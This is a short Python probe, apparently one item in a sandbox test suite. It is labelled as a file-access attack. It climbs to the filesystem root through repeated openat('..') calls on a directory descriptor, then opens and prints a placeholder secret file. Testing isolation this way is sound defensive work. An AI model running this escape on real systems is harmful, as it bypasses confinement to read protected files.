# attack: climbs out by a folder's descriptor: openat("..", dir_fd) until the root, then down to the file
# family: files
import os
at = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
print("REACHED a descriptor", at)
for _ in range(64):
    at = os.open("..", os.O_RDONLY | os.O_DIRECTORY, dir_fd=at)
wanted = os.open("$SECRET_FILE".lstrip("/"), os.O_RDONLY, dir_fd=at)
print(os.read(wanted, 4096))
